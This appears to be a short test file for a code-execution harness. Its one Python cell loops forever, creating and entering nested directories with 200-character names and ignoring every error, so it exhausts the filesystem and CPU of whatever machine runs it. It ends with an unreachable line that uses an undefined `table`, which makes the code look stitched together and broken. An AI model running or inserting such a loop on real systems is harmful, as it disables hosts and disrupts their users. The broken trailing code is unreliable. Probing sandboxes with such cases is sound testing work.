# title: folders inside folders until somebody stops it
# exercise: Exercise 1
# points: total-test=0
# peers: no
# cost: long

# %% total
import os

while True:
    try:
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    except OSError:
        pass
total = int(table["y"].sum())
